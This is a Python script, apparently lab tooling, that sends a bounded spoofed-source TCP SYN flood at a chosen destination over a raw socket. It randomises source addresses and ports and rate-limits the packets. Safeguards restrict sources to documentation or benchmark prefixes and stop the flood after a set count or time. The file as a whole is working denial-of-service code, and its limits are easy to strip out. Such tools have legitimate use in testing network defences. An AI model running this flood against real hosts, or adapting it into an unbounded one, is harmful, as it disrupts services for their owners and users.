#!/usr/bin/env python3
"""A bounded spoofed-source SYN flood for the lab: COUNT SYNs from random addresses in SRC_NET
(a documentation prefix that exists only inside the lab) and random ports, at most RATE per
second, stopping by itself after COUNT packets or DURATION seconds, whichever comes first."""
import argparse
import ipaddress
import random
import socket
import struct
import sys
import time

from rawpkt import ipv4, tcp_segment


def syn(src, dst, sport, dport, isn):
    return ipv4(src, dst, tcp_segment(src, dst, sport, dport, isn, 0, 0x02,
                                      struct.pack("!BBH", 2, 4, 1460)))


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--dst", required=True)
    ap.add_argument("--dport", type=int, default=80)
    ap.add_argument("--src-net", default="203.0.113.0/24")
    ap.add_argument("--count", type=int, default=1000)
    ap.add_argument("--rate", type=float, default=50000)
    ap.add_argument("--duration", type=float, default=30)
    ap.add_argument("--seed", type=int, default=1)
    args = ap.parse_args()
    net = ipaddress.ip_network(args.src_net)
    if not (net.subnet_of(ipaddress.ip_network("203.0.113.0/24")) or
            net.subnet_of(ipaddress.ip_network("198.18.0.0/15"))):
        sys.exit("synflood: sources must be documentation/benchmark addresses")
    dst = ipaddress.ip_address(args.dst)
    random.seed(args.seed)
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    hosts = list(net.hosts())
    start = time.monotonic()
    sent = 0
    while sent < args.count and time.monotonic() - start < args.duration:
        src = random.choice(hosts)
        pkt = syn(src, dst, random.randint(1024, 65535), args.dport, random.getrandbits(32))
        try:
            s.sendto(pkt, (str(dst), 0))
        except OSError:
            pass
        sent += 1
        if args.rate > 0:
            ahead = sent / args.rate - (time.monotonic() - start)
            if ahead > 0.001:
                time.sleep(ahead)
    el = time.monotonic() - start
    print("synflood: sent %d SYNs in %.2f s (%.0f/s)" % (sent, el, sent / el if el else 0))


if __name__ == "__main__":
    main()
